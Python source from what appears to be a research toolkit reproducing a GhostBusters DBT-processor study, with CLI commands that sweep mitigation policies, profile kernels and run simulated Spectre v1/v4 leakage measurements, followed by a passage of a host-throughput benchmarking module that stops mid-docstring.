            _report_telemetry(args, spool.name)
        return 0 if leaked_anywhere or args.policy else 1
    finally:
        if spool is not None:
            spool.cleanup()


def cmd_sweep(args) -> int:
    import signal
    import threading

    from .dbt.pool import TranslationPool
    from .kernels import SMALL_SIZES, POLYBENCH_SUITE, build_kernel_program
    from .platform.comparison import comparison_csv, comparison_json
    from .platform.parallel import (
        DRAIN_EXIT_CODE,
        DrainRequested,
        ParallelRunError,
        RunnerTelemetry,
        sweep_comparisons,
    )

    # SIGTERM drains instead of killing: in-flight points finish (and
    # checkpoint under --resume), unstarted points are abandoned, and
    # the exit code is pinned so wrappers can tell "drained" from
    # "failed".  Only the main thread may own signal handlers.
    drain = threading.Event()
    previous_handler = None
    if threading.current_thread() is threading.main_thread():
        previous_handler = signal.signal(signal.SIGTERM,
                                         lambda *_: drain.set())

    suite = POLYBENCH_SUITE if args.full else SMALL_SIZES
    workloads = []
    expected = {}
    for name, factory in suite.items():
        program = build_kernel_program(factory())
        expected[name] = run_program(program).exit_code
        workloads.append((name, program))
    telemetry = RunnerTelemetry()
    spool = None
    point_telemetry = None
    if _telemetry_wanted(args):
        spool = tempfile.TemporaryDirectory(prefix="repro-telemetry-")
        point_telemetry = _telemetry_config(args, spool.name)
    pool = None
    if args.batched:
        if args.jobs > 1:
            print("sweep --batched runs in one process; ignoring "
                  "--jobs %d" % args.jobs, file=sys.stderr)
        pool = TranslationPool()
    elif args.timing != "scalar":
        print("sweep --timing %s needs --batched (co-hosted guests); "
              "running scalar" % args.timing, file=sys.stderr)
    if args.quantum is not None and not args.batched:
        print("sweep --quantum needs --batched; ignoring", file=sys.stderr)
    try:
        try:
            comparisons = sweep_comparisons(
                workloads, jobs=args.jobs, cache_dir=args.cache_dir,
                engine_config=_engine_config(args),
                expect_exit_codes=expected,
                interpreter=args.interpreter,
                timeout=args.timeout, retries=args.retries,
                checkpoint=args.resume, telemetry=telemetry,
                tcache_dir=args.tcache_dir,
                point_telemetry=point_telemetry,
                should_drain=drain.is_set,
                batched=args.batched, pool=pool,
                timing=args.timing if args.batched else "scalar",
                quantum=args.quantum if args.batched else None,
            )
        except DrainRequested as request:
            print("sweep drained on SIGTERM: %s" % request, file=sys.stderr)
            if args.resume:
                print("resume with --resume %s" % args.resume,
                      file=sys.stderr)
            return DRAIN_EXIT_CODE
        except ParallelRunError as error:
            _print_run_failures(error)
            print("runner: %s" % telemetry.summary(), file=sys.stderr)
            return 1
        if spool is not None:
            _report_telemetry(args, spool.name, pool=pool)
    finally:
        if spool is not None:
            spool.cleanup()
        if previous_handler is not None:
            signal.signal(signal.SIGTERM, previous_handler)
    if telemetry.faults_survived or telemetry.checkpoint_hits:
        print("runner: %s" % telemetry.summary(), file=sys.stderr)
    if pool is not None:
        print("pool: %s" % pool.stats.summary(), file=sys.stderr)
    for name, _program in workloads:
        print("%-12s done" % name, file=sys.stderr)
    if args.json:
        _write_text(args.json, comparison_json(comparisons) + "\n")
    if args.csv:
        _write_text(args.csv, comparison_csv(comparisons))
    # The ASCII table stays on stdout unless it is being used for one of
    # the machine-readable formats.
    if "-" not in (args.json, args.csv):
        print(slowdown_table(comparisons, policies=(
            MitigationPolicy.GHOSTBUSTERS,
            MitigationPolicy.FENCE,
            MitigationPolicy.NO_SPECULATION,
        )))
    return 0


def cmd_bench_host(args) -> int:
    from .benchhost import format_report, run_bench_host, write_report

    report = run_bench_host(quick=args.quick, skip_sweep=args.skip_sweep,
                            tcache_dir=args.tcache_dir)
    print(format_report(report))
    if args.out:
        path = write_report(report, args.out)
        print("wrote %s" % path, file=sys.stderr)
    return 0


def cmd_stats(args) -> int:
    from .obs.attribution import attribute_policies, attribution_table

    secret = None
    if args.attack:
        if args.file:
            print("error: give either a guest file or --attack, not both",
                  file=sys.stderr)
            return 2
        variant = (AttackVariant.SPECTRE_V1 if args.attack == "v1"
                   else AttackVariant.SPECTRE_V4)
        from .attacks.harness import build_attack_program

        secret = args.secret.encode()
        program = build_attack_program(variant, secret)
        workload = "attack %s" % args.attack
    elif args.file:
        program = _load_guest(args.file)
        workload = args.file
    else:
        print("error: give a guest file or --attack {v1,v4}",
              file=sys.stderr)
        return 2
    policies = [args.policy] if args.policy else list(ALL_POLICIES)
    rows = attribute_policies(program, policies,
                              vliw_config=_vliw_config(args),
                              engine_config=_engine_config(args),
                              interpreter=args.interpreter,
                              secret=secret)
    print("cycle attribution for %s\n" % workload)
    print(attribution_table(rows))
    if args.attack:
        from .obs import LeakageReport, leakage_table

        reports = [
            LeakageReport(
                variant=args.attack, policy=row.policy,
                secret_length=row.secret_length,
                bytes_recovered=row.bytes_recovered,
                accuracy=(row.bytes_recovered / row.secret_length
                          if row.secret_length else 0.0),
                leaked=row.bytes_recovered == row.secret_length,
                rollbacks=row.rollbacks,
                squashed_speculative_loads=row.squashed_loads,
                wasted_speculative_cycles=row.rollback_cycles,
                speculative_miss_probes=row.speculative_miss_probes,
                cflushes=row.cflushes, cycles=row.cycles)
            for row in rows
        ]
        print()
        print("leakage meters for %s\n" % workload)
        print(leakage_table(reports))
    return 0


def cmd_chaos(args) -> int:
    from .resilience.chaos import format_chaos_table, run_chaos_matrix

    spool = None
    point_telemetry = None
    if _telemetry_wanted(args):
        spool = tempfile.TemporaryDirectory(prefix="repro-telemetry-")
        point_telemetry = _telemetry_config(args, spool.name)
    try:
        outcomes = run_chaos_matrix(
            seed=args.seed, kernel=args.kernel, jobs=args.jobs,
            hang_timeout=args.hang_timeout, chain=args.chain,
            interpreter=args.interpreter, telemetry=point_telemetry,
            trace=args.trace, serve=args.serve,
        )
        if spool is not None:
            _report_telemetry(args, spool.name)
    finally:
        if spool is not None:
            spool.cleanup()
    print(format_chaos_table(outcomes))
    failed = [outcome for outcome in outcomes if not outcome.ok]
    if failed:
        print("\n%d of %d chaos cells FAILED" % (len(failed), len(outcomes)),
              file=sys.stderr)
        return 1
    print("\nall %d chaos cells ok (seed %d%s)"
          % (len(outcomes), args.seed, ", chained" if args.chain else ""))
    return 0


def cmd_serve(args) -> int:
    import signal
    import threading

    from .serve import ServeConfig, ServeDaemon, run_server

    try:
        from .serve.protocol import serve_address

        serve_address(args.socket, args.port)  # validate before starting
    except ValueError as error:
        print("error: %s" % error, file=sys.stderr)
        return 2
    config = ServeConfig(
        workers=args.workers, tcache_dir=args.tcache_dir,
        work_dir=args.work_dir, lease_timeout=args.lease_timeout,
        retries=args.retries, backoff=args.backoff,
        compact_on_stop=not args.no_compact)
    daemon = ServeDaemon(config)
    daemon.start()
    if daemon.stats.replayed_jobs:
        print("repro serve: replayed %d job(s) from %s (%d corrupt line(s) "
              "dropped, %d lease(s) recovered)"
              % (daemon.stats.replayed_jobs, config.journal,
                 daemon.stats.replayed_corrupt_lines, daemon.stats.requeues),
              file=sys.stderr)
    stop = threading.Event()

    def _on_sigterm(_signum, _frame):
        daemon.request_drain()
        stop.set()

    previous = signal.signal(signal.SIGTERM, _on_sigterm)
    where = args.socket or "127.0.0.1:%d" % args.port
    print("repro serve: %d warm worker(s), journal %s, listening on %s"
          % (config.workers, config.journal, where), file=sys.stderr)
    try:
        run_server(daemon, socket_path=args.socket, port=args.port,
                   stop=stop)
    except KeyboardInterrupt:
        daemon.request_drain()
    finally:
        signal.signal(signal.SIGTERM, previous)
        daemon.stop(drain=True)
    stats = daemon.stats
    print("repro serve: stopped (%d submitted, %d completed, %d failed, "
          "%d quarantined)" % (stats.submitted, stats.completed,
                               stats.failed, stats.quarantined),
          file=sys.stderr)
    return 0


def cmd_submit(args) -> int:
    import json

    from .serve import ServeClient, ServeError

    raw = args.payload
    if raw == "-":
        raw = sys.stdin.read()
    elif raw.startswith("@"):
        with open(raw[1:]) as handle:
            raw = handle.read()
    try:
        payload = json.loads(raw)
    except ValueError as error:
        print("error: payload is not valid JSON: %s" % error,
              file=sys.stderr)
        return 2
    try:
        client = ServeClient(socket_path=args.socket, port=args.port)
        job_id = client.submit(payload, priority=args.priority)
        print(job_id)
        if args.wait:
            reply = client.wait(job_id, timeout=args.timeout)
            print(json.dumps(reply, indent=2, sort_keys=True))
            return 0 if reply.get("state") == "done" else 1
    except (ServeError, ValueError) as error:
        print("error: %s" % error, file=sys.stderr)
        return 1
    return 0


def cmd_jobs(args) -> int:
    import json

    from .serve import ServeClient, ServeError

    try:
        client = ServeClient(socket_path=args.socket, port=args.port)
        if args.status:
            print(json.dumps(client.status(), indent=2, sort_keys=True))
            return 0
        reply = client.jobs()
    except (ServeError, ValueError) as error:
        print("error: %s" % error, file=sys.stderr)
        return 1
    jobs = reply.get("jobs", [])
    if args.json:
        print(json.dumps(jobs, indent=2, sort_keys=True))
        return 0
    if not jobs:
        print("no jobs")
        return 0
    print("%-12s %-7s %-4s %-12s %s"
          % ("job", "kind", "prio", "state", "attempts"))
    for job in jobs:
        print("%-12s %-7s %-4d %-12s %d"
              % (job.get("job", "?"), job.get("kind", "?"),
                 job.get("priority", 0), job.get("state", "?"),
                 job.get("attempts", 0)))
    return 0


def cmd_profile(args) -> int:
    from .obs.profiler import (
        amortization_report,
        format_amortization,
        format_profile,
        profile_run,
        write_profile,
    )

    if sum(bool(x) for x in (args.file, args.attack, args.kernel)) != 1:
        print("error: give exactly one of FILE, --attack {v1,v4}, "
              "or --kernel NAME", file=sys.stderr)
        return 2
    if args.attack:
        from .attacks.harness import build_attack_program

        variant = (AttackVariant.SPECTRE_V1 if args.attack == "v1"
                   else AttackVariant.SPECTRE_V4)
        program = build_attack_program(variant, args.secret.encode())
        workload = "attack %s" % args.attack
    elif args.kernel:
        from .kernels import SMALL_SIZES, build_kernel_program

        if args.kernel not in SMALL_SIZES:
            print("error: unknown kernel %r (choose from %s)"
                  % (args.kernel, ", ".join(sorted(SMALL_SIZES))),
                  file=sys.stderr)
            return 2
        program = build_kernel_program(SMALL_SIZES[args.kernel]())
        workload = "kernel %s" % args.kernel
    else:
        program = _load_guest(args.file)
        workload = args.file
    vliw_config = _vliw_config(args)
    engine_config = _engine_config(args)
    meta = {"workload": workload}
    if args.amortize:
        # Same workload on both execution tiers; the amortization table
        # joins them per block.  --interpreter is ignored here.  With
        # chaining on, the upper leg runs tier-4 so the report carries
        # megablock rows (per-block attribution needs chaining off).
        upper = "trace" if engine_config.chain else "compiled"
        _, fast_report = profile_run(program, args.policy, vliw_config,
                                     engine_config, interpreter="fast",
                                     meta=meta)
        _, report = profile_run(program, args.policy, vliw_config,
                                engine_config, interpreter=upper,
                                tcache_dir=args.tcache_dir, meta=meta)
        print(format_profile(report, top=args.top))
        print()
        print(format_amortization(
            amortization_report(fast_report, report, workload=workload),
            top=args.top))
    else:
        _, report = profile_run(program, args.policy, vliw_config,
                                engine_config, interpreter=args.interpreter,
                                tcache_dir=args.tcache_dir, meta=meta)
        print(format_profile(report, top=args.top))
    if args.profile_out:
        write_profile(report, args.profile_out)
        print("wrote %s" % args.profile_out, file=sys.stderr)
    return 0


# ---------------------------------------------------------------------------
# Parser.
# ---------------------------------------------------------------------------

def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="repro",
        description="GhostBusters DBT-processor reproduction toolkit",
    )
    sub = parser.add_subparsers(dest="command", required=True)

    def add_policy(p, default=MitigationPolicy.UNSAFE):
        p.add_argument("--policy", type=_policy, default=default,
                       help="mitigation policy (%s)"
                       % ", ".join(x.value for x in MitigationPolicy))

    def add_wide(p):
        p.add_argument("--wide", type=int, default=None, metavar="N",
                       help="use an N-wide machine instead of the default 4-wide")

    def add_interpreter(p, tcache=True):
        p.add_argument(
            "--interpreter",
            choices=("fast", "reference", "compiled", "trace"),
            default=None,
            help="host execution tier: finalized fast path (default), "
                 "the seed reference loop, tier-3 compiled blocks, or "
                 "tier-4 trace compilation (hot chains become compiled "
                 "megablocks; requires --chain; bit-identical results)")
        if tcache:
            p.add_argument(
                "--tcache-dir", metavar="DIR", default=None,
                help="persistent cross-process codegen cache for "
                     "--interpreter compiled: compiled blocks are "
                     "stored under DIR and reloaded by later runs")

    def add_telemetry(p):
        p.add_argument(
            "--metrics-out", metavar="FILE", default=None,
            help="write the merged cross-worker metrics registry as "
                 "JSON ('-' for stdout); counter totals are identical "
                 "at every --jobs level (memoized points spool "
                 "nothing — use a cold cache to account every point)")
        p.add_argument(
            "--prom-out", metavar="FILE", default=None,
            help="write the merged metrics in Prometheus text format "
                 "('-' for stdout)")
        p.add_argument(
            "--trace-out", metavar="FILE", default=None,
            help="write a merged Chrome-trace JSON timeline with one "
                 "process track per worker")
        p.add_argument(
            "--trace-limit", type=int, default=200_000, metavar="N",
            help="per-point max trace records before truncation")

    def add_engine(p):
        p.add_argument(
            "--chain", action="store_true",
            help="chain translated blocks so dispatch goes block→block "
                 "without an engine round trip (bit-identical results, "
                 "faster host execution)")
        p.add_argument(
            "--cache-policy", choices=("flush", "lru"), default="flush",
            help="code-cache capacity policy: wholesale flush (seed "
                 "behavior) or LRU partial eviction (default: %(default)s)")
        p.add_argument(
            "--cache-capacity", type=int, default=None, metavar="N",
            help="bound the code cache to N translations "
                 "(default: unbounded)")
        p.add_argument(
            "--tier", choices=("eager", "auto"), default="eager",
            help="host tier placement: compile every installed block "
                 "eagerly (seed behavior) or promote blocks in the "
                 "background from profile-driven cost/benefit "
                 "accounting, keeping small kernels on the fast "
                 "interpreter automatically (default: %(default)s)")

    asm_parser = sub.add_parser(
        "asm", help="assemble to a binary container (.bin)",
    )
    asm_parser.add_argument("file", help="assembly file ('-' for stdin)")
    asm_parser.add_argument("-o", "--output", required=True,
                            help="output container path")
    asm_parser.set_defaults(func=cmd_asm)

    run_parser = sub.add_parser("run", help="assemble and run a guest program")
    run_parser.add_argument("file", help="assembly file ('-' for stdin)")
    run_parser.add_argument("--interp", action="store_true",
                            help="use the reference interpreter")
    run_parser.add_argument("--stats", action="store_true",
                            help="print full platform statistics")
    run_parser.add_argument("--trace-out", metavar="FILE", default=None,
                            help="write a Chrome-trace JSON timeline "
                                 "(open in chrome://tracing or Perfetto)")
    run_parser.add_argument("--trace-limit", type=int, default=200_000,
                            metavar="N",
                            help="max trace records before truncation")
    run_parser.add_argument("--metrics-out", metavar="FILE", default=None,
                            help="write the metrics registry as JSON "
                                 "('-' for stdout)")
    run_parser.add_argument("--prom-out", metavar="FILE", default=None,
                            help="write the metrics registry in Prometheus "
                                 "text format ('-' for stdout)")
    run_parser.add_argument(
        "--profile-out", metavar="FILE", default=None,
        help="attach the host profiler and write its per-phase/per-"
             "block wall-time report as JSON (simulated results stay "
             "bit-identical)")
    run_parser.add_argument(
        "--supervise", action="store_true",
        help="attach the execution supervisor (install-time schedule "
             "gate, guarded execution, quarantine + degradation ladder) "
             "and print its detection/recovery counters")
    add_policy(run_parser)
    add_wide(run_parser)
    add_engine(run_parser)
    add_interpreter(run_parser)
    run_parser.set_defaults(func=cmd_run)

    dis_parser = sub.add_parser("dis", help="assemble and disassemble")
    dis_parser.add_argument("file")
    dis_parser.set_defaults(func=cmd_dis)

    trace_parser = sub.add_parser(
        "trace", help="show the DBT engine's optimized schedules",
    )
    trace_parser.add_argument("file")
    trace_parser.add_argument("--all", action="store_true",
                              help="include first-pass translations")
    add_policy(trace_parser)
    add_wide(trace_parser)
    trace_parser.set_defaults(func=cmd_trace)

    attack_parser = sub.add_parser("attack", help="run a Spectre PoC")
    attack_parser.add_argument("variant", choices=("v1", "v4"))
    attack_parser.add_argument("--secret", default="GHOST",
                               help="secret string to plant and recover")
    attack_parser.add_argument("--policy", type=_policy, default=None,
                               help="single policy (default: all four)")
    attack_parser.add_argument(
        "--jobs", type=int, default=1, metavar="N",
        help="worker processes for the per-policy runs; results are "
             "gathered in submission order, so output is identical to "
             "--jobs 1 (default: 1)")
    attack_parser.add_argument(
        "--timeout", type=float, default=None, metavar="SECONDS",
        help="per-cell timeout under --jobs; hung workers are reaped "
             "and the cell retried (default: none)")
    attack_parser.add_argument(
        "--retries", type=int, default=2, metavar="N",
        help="pool retry attempts for crashed/timed-out cells before "
             "the serial fallback (default: %(default)s)")
    attack_parser.add_argument(
        "--leakage", action="store_true",
        help="attach the leakage meters: per-policy rollbacks, squashed "
             "speculative loads, wasted speculative cycles, and probe "
             "counts, printed per result and as a summary table")
    add_engine(attack_parser)
    add_interpreter(attack_parser)
    add_telemetry(attack_parser)
    attack_parser.set_defaults(func=cmd_attack)

    sweep_parser = sub.add_parser("sweep", help="Figure-4 style policy sweep")
    sweep_parser.add_argument("--full", action="store_true",
                              help="paper-size kernels (slower)")
    sweep_parser.add_argument("--json", metavar="FILE", default=None,
                              help="also write results as JSON "
                                   "('-' for stdout)")
    sweep_parser.add_argument("--csv", metavar="FILE", default=None,
                              help="also write results as CSV "
                                   "('-' for stdout)")
    sweep_parser.add_argument(
        "--jobs", type=int, default=1, metavar="N",
        help="worker processes for the (kernel x policy) grid; rows are "
             "emitted in deterministic submission order, so JSON/CSV "
             "output is byte-identical to --jobs 1 (default: 1)")
    sweep_parser.add_argument(
        "--cache-dir", metavar="DIR", default=None,
        help="memoize sweep points on disk under DIR (keyed by program "
             "bytes + policy + machine config); re-runs only simulate "
             "changed points")
    sweep_parser.add_argument(
        "--timeout", type=float, default=None, metavar="SECONDS",
        help="per-point timeout under --jobs; hung workers are reaped "
             "and the point retried (default: none)")
    sweep_parser.add_argument(
        "--retries", type=int, default=2, metavar="N",
        help="pool retry attempts for crashed/timed-out points before "
             "the serial fallback (default: %(default)s)")
    sweep_parser.add_argument(
        "--resume", metavar="FILE", default=None,
        help="JSONL checkpoint: completed points are appended as they "
             "land and replayed on the next run, so a killed sweep "
             "resumes instead of starting over")
    sweep_parser.add_argument(
        "--batched", action="store_true",
        help="run all points as co-hosted guests of one process sharing "
             "a translation pool instead of fanning out worker "
             "processes; rows are byte-identical to the unbatched "
             "sweep (--jobs/--timeout/--retries are ignored)")
    sweep_parser.add_argument(
        "--timing", choices=("scalar", "vector"), default="scalar",
        help="cache timing engine for --batched guests: 'vector' "
             "stacks co-hosted guests' cache state into numpy lanes "
             "and drains their access logs between quanta; rows stay "
             "byte-identical to scalar (default: %(default)s)")
    sweep_parser.add_argument(
        "--quantum", type=int, default=None, metavar="N",
        help="blocks each --batched guest runs per round-robin turn; "
             "changes interleaving only, never results (default: 256)")
    add_engine(sweep_parser)
    add_interpreter(sweep_parser)
    add_telemetry(sweep_parser)
    sweep_parser.set_defaults(func=cmd_sweep)

    bench_parser = sub.add_parser(
        "bench-host",
        help="measure simulator host throughput (fast path vs reference)",
    )
    bench_parser.add_argument("--quick", action="store_true",
                              help="short secret and fewer kernels "
                                   "(CI smoke mode)")
    bench_parser.add_argument("--skip-sweep", action="store_true",
                              help="skip the --jobs scaling section")
    bench_parser.add_argument("--out", metavar="FILE",
                              default="benchmarks/results/BENCH_host.json",
                              help="where to write the JSON report "
                                   "(default: %(default)s)")
    bench_parser.add_argument(
        "--tcache-dir", metavar="DIR", default=None,
        help="persistent codegen cache for the compiled-tier "
             "measurements (default: a temporary directory)")
    bench_parser.set_defaults(func=cmd_bench_host)

    stats_parser = sub.add_parser(
        "stats", help="per-policy cycle attribution table",
    )
    stats_parser.add_argument("file", nargs="?", default=None,
                              help="guest assembly or container file")
    stats_parser.add_argument("--attack", choices=("v1", "v4"), default=None,
                              help="attribute a Spectre PoC instead of a file")
    stats_parser.add_argument("--secret", default="GHOST",
                              help="secret for --attack PoCs")
    stats_parser.add_argument("--policy", type=_policy, default=None,
                              help="single policy (default: all four)")
    add_wide(stats_parser)
    add_engine(stats_parser)
    add_interpreter(stats_parser, tcache=False)
    stats_parser.set_defaults(func=cmd_stats)

    profile_parser = sub.add_parser(
        "profile",
        help="host-time profile with per-tier attribution and the "
             "compile-cost amortization table",
    )
    profile_parser.add_argument("file", nargs="?", default=None,
                                help="guest assembly or container file")
    profile_parser.add_argument("--attack", choices=("v1", "v4"),
                                default=None,
                                help="profile a Spectre PoC instead of a "
                                     "file")
    profile_parser.add_argument("--secret", default="GHOST",
                                help="secret for --attack PoCs")
    profile_parser.add_argument("--kernel", default=None, metavar="NAME",
                                help="profile a polybench kernel instead "
                                     "of a file")
    profile_parser.add_argument(
        "--amortize", action="store_true",
        help="profile the workload on the fast AND compiled tiers and "
             "print the compile-cost amortization table (ignores "
             "--interpreter)")
    profile_parser.add_argument("--profile-out", metavar="FILE",
                                default=None,
                                help="also write the profile report as "
                                     "JSON")
    profile_parser.add_argument("--top", type=int, default=10, metavar="N",
                                help="rows in the hottest-blocks and "
                                     "amortization tables "
                                     "(default: %(default)s)")
    add_policy(profile_parser)
    add_wide(profile_parser)
    add_engine(profile_parser)
    add_interpreter(profile_parser)
    profile_parser.set_defaults(func=cmd_profile)

    chaos_parser = sub.add_parser(
        "chaos",
        help="run the resilience fault matrix (inject, detect, recover, "
             "verify bit-identical)",
    )
    chaos_parser.add_argument("--seed", type=int, default=0,
                              help="fault-plan seed; the same seed "
                                   "reproduces the same faults "
                                   "(default: %(default)s)")
    chaos_parser.add_argument("--kernel", default="atax",
                              help="polybench kernel for the compute "
                                   "scenarios (default: %(default)s)")
    chaos_parser.add_argument("--jobs", type=int, default=2, metavar="N",
                              help="pool width for the runner-fault "
                                   "scenarios (min 2; default: "
                                   "%(default)s)")
    chaos_parser.add_argument("--hang-timeout", type=float, default=8.0,
                              metavar="SECONDS",
                              help="per-point timeout the hung-worker "
                                   "scenario must survive "
                                   "(default: %(default)s)")
    chaos_parser.add_argument("--chain", action="store_true",
                              help="run every engine scenario with block "
                                   "chaining enabled")
    chaos_parser.add_argument("--no-trace", dest="trace",
                              action="store_false", default=True,
                              help="skip the tier-4 trace cells "
                                   "(megablock corruption, compile-queue "
                                   "hang); they run by default")
    chaos_parser.add_argument(
        "--no-serve", dest="serve", action="store_false", default=True,
        help="skip the serve-daemon cells (journal corruption, worker "
             "crash/hang, lease expiry); they run by default")
    add_interpreter(chaos_parser, tcache=False)
    add_telemetry(chaos_parser)
    chaos_parser.set_defaults(func=cmd_chaos)

    def add_serve_endpoint(p):
        p.add_argument("--socket", default=None, metavar="PATH",
                       help="AF_UNIX socket path of the serve daemon")
        p.add_argument("--port", type=int, default=None, metavar="N",
                       help="loopback TCP port of the serve daemon")

    serve_parser = sub.add_parser(
        "serve",
        help="run the simulation service daemon (warm worker fleet + "
             "crash-safe job journal)")
    add_serve_endpoint(serve_parser)
    serve_parser.add_argument("--workers", type=int, default=2, metavar="N",
                              help="warm worker fleet size (default 2)")
    serve_parser.add_argument("--work-dir", default=".repro-serve",
                              metavar="DIR",
                              help="daemon state root: journal + telemetry "
                                   "spools (default .repro-serve)")
    serve_parser.add_argument("--tcache-dir", default=None, metavar="DIR",
                              help="persistent codegen cache shared by the "
                                   "whole fleet")
    serve_parser.add_argument("--lease-timeout", type=float, default=120.0,
                              metavar="SEC",
                              help="per-job lease deadline before the "
                                   "watchdog SIGKILLs the worker "
                                   "(default 120)")
    serve_parser.add_argument("--retries", type=int, default=2, metavar="N",
                              help="re-lease budget after worker "
                                   "crash/hang before quarantine "
                                   "(default 2)")
    serve_parser.add_argument("--backoff", type=float, default=0.5,
                              metavar="SEC",
                              help="base exponential backoff between "
                                   "re-leases (default 0.5)")
    serve_parser.add_argument("--no-compact", action="store_true",
                              help="keep the full journal history on "
                                   "clean stop instead of compacting to "
                                   "one snapshot per job")
    serve_parser.set_defaults(func=cmd_serve)

    submit_parser = sub.add_parser(
        "submit", help="submit a job to the serve daemon")
    submit_parser.add_argument(
        "payload",
        help="job payload: inline JSON, '@FILE', or '-' for stdin "
             "(e.g. '{\"kind\": \"sweep\", \"kernels\": [\"atax\"]}')")
    add_serve_endpoint(submit_parser)
    submit_parser.add_argument("--priority", type=int, default=0,
                               metavar="N",
                               help="higher runs first (default 0)")
    submit_parser.add_argument("--wait", action="store_true",
                               help="block until the job is terminal and "
                                    "print its result JSON")
    submit_parser.add_argument("--timeout", type=float, default=None,
                               metavar="SEC",
                               help="give up waiting after SEC seconds")
    submit_parser.set_defaults(func=cmd_submit)

    jobs_parser = sub.add_parser(
        "jobs", help="list the serve daemon's jobs")
    add_serve_endpoint(jobs_parser)
    jobs_parser.add_argument("--status", action="store_true",
                             help="print daemon status/stats instead of "
                                  "the job table")
    jobs_parser.add_argument("--json", action="store_true",
                             help="print the job table as JSON")
    jobs_parser.set_defaults(func=cmd_jobs)

    return parser


def main(argv: Optional[List[str]] = None) -> int:
    parser = build_parser()
    args = parser.parse_args(argv)
    return args.func(args)


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
