"""Host-performance baseline: how fast does the *simulator itself* run?

Every experiment in the reproduction is gated on host wall-time, so this
module measures the platform's own throughput — guest instructions
simulated per host second — and the two levers this repository pulls to
raise it:

* the **finalized fast path** (``repro.vliw.fastpath``) versus the seed
  per-``VliwOp`` reference interpreter, measured on the E1 attack matrix
  and on Polybench kernels under every mitigation policy;
* the **tier-3 compiled blocks** (``repro.vliw.codegen``), measured on
  the same grids plus a cold/warm pair over the persistent
  cross-process codegen cache (``--tcache-dir``);
* the **parallel sweep runner** (``repro.platform.parallel``), measured
  as Figure-4 sweep wall-time at different ``--jobs`` levels.

``run_bench_host`` produces one JSON document (``BENCH_host.json``)
seeding the repository's host-perf trajectory; ``repro bench-host`` and
``benchmarks/bench_host_perf.py`` are thin wrappers around it.  All
numbers are wall-clock measurements of this host — compare them only
against other numbers from the same environment.
"""

from __future__ import annotations

import gc
import json
import platform as host_platform
import sys
import time
from contextlib import contextmanager
from pathlib import Path
from typing import Dict, List, Optional, Sequence, Tuple

from .attacks.harness import AttackVariant, attack_matrix, build_attack_program
from .dbt.engine import DbtEngineConfig
from .dbt.pool import TranslationPool
from .kernels import SMALL_SIZES, build_kernel_program
from .platform.comparison import comparison_json
from .platform.parallel import sweep_comparisons
from .platform.system import DbtSystem
from .security.policy import ALL_POLICIES

#: Kernels timed per policy in the kernel section (two, per the
#: host-perf baseline spec) and used for the sweep-scaling section.
DEFAULT_KERNELS = ("gemm", "atax")
QUICK_SECRET = b"GB"
FULL_SECRET = b"GHOST"

#: /3: adds the ``profiler_overhead`` section (host profiler enabled vs
#: disabled on one kernel; simulated cycles must match).
#: /4: adds the tier-4 ``trace_chained`` E1 row (+ ``trace_speedup``)
#: and the ``auto`` kernel rows (profile-driven tier placement).
#: /5: adds the ``batched_sweep`` section (multi-guest execution over a
#: shared translation pool vs the per-point cold path).
#: /6: adds the ``timing_model`` section (vectorized lane-batched cache
#: engine vs the scalar model: batched E1 matrix walls + a raw cache
#: microbench; records must stay byte-identical).
SCHEMA = "repro.bench_host/6"


@contextmanager
def _gc_paused():
    """Suspend the collector around a timed region (restores prior state)."""
    was_enabled = gc.isenabled()
    gc.disable()
    try:
        yield
    finally:
        if was_enabled:
            gc.enable()


def _timed_run(program, policy, interpreter: str,
               engine_config=None) -> Tuple[float, object]:
    start = time.perf_counter()
    result = DbtSystem(program, policy=policy, interpreter=interpreter,
                       engine_config=engine_config).run()
    return time.perf_counter() - start, result


def measure_attack_matrix(secret: bytes, interpreter: str,
                          engine_config=None, programs=None,
                          repeats: int = 1, tcache_dir=None) -> dict:
    """Wall-time one full E1 matrix (2 variants × all policies).

    The PoC binaries are assembled *outside* the timed region (pass
    ``programs`` to share one build across configurations) so the wall
    measures the DBT platform — translation, optimization, execution
    and dispatch — not the guest assembler.  ``repeats`` reruns the
    matrix and keeps the best wall: the simulation is deterministic, so
    the minimum is the measurement least polluted by host noise.

    For the compiled tier, pass a ``tcache_dir`` shared across repeats:
    repeat 1 pays the compiles, later repeats warm-load from the
    persistent cache — the steady-state number a long campaign sees.
    The ``codegen`` counters reported are the *last* repeat's (the
    warmest), so a warm matrix shows its persistent hits.
    """
    if programs is None:
        programs = {variant: build_attack_program(variant, secret)
                    for variant in AttackVariant}
    best_wall = None
    matrix = None
    with _gc_paused():
        for _ in range(max(1, repeats)):
            start = time.perf_counter()
            matrix = attack_matrix(secret=secret, interpreter=interpreter,
                                   engine_config=engine_config,
                                   programs=programs,
                                   tcache_dir=tcache_dir)
            wall = time.perf_counter() - start
            if best_wall is None or wall < best_wall:
                best_wall = wall
    wall = best_wall or 0.0
    instructions = 0
    cycles = 0
    points = 0
    chain_links = chain_dispatches = 0
    chain_breaks: Dict[str, int] = {}
    chained = False
    codegen_totals = {"compiles": 0, "hits": 0, "persist_hits": 0,
                      "persist_stores": 0, "bytes": 0}
    compiled = False
    trace_totals = {"recorded": 0, "compiled": 0, "persist_hits": 0,
                    "dispatches": 0, "blocks": 0, "demotions": 0}
    traced = False
    for per_policy in matrix.values():
        for outcome in per_policy.values():
            instructions += outcome.run.instructions
            cycles += outcome.run.cycles
            points += 1
            if outcome.run.chain is not None:
                chained = True
                chain_links += outcome.run.chain.links
                chain_dispatches += outcome.run.chain.dispatches
                for reason, count in outcome.run.chain.breaks.items():
                    chain_breaks[reason] = chain_breaks.get(reason, 0) + count
            if outcome.run.codegen is not None:
                compiled = True
                for field in codegen_totals:
                    codegen_totals[field] += getattr(outcome.run.codegen,
                                                     field)
            if outcome.run.trace is not None:
                traced = True
                for field in trace_totals:
                    trace_totals[field] += getattr(outcome.run.trace, field)
    row = {
        "wall_seconds": round(wall, 4),
        "points": points,
        "guest_instructions": instructions,
        "guest_cycles": cycles,
        "guest_instructions_per_second":
            round(instructions / wall) if wall else 0,
    }
    if chained:
        row["chain"] = {
            "links": chain_links,
            "dispatches": chain_dispatches,
            "breaks": dict(sorted(chain_breaks.items())),
        }
    if compiled:
        row["codegen"] = codegen_totals
    if traced:
        row["trace"] = trace_totals
    return row


def measure_tcache_persistence(secret: bytes, programs, tcache_dir) -> dict:
    """Cold/warm pair over the persistent codegen cache.

    Runs the Spectre-v4 PoC compiled twice against a fresh
    ``tcache_dir``: the first run compiles and persists every block, the
    second warm-loads them from disk.  The warm run's
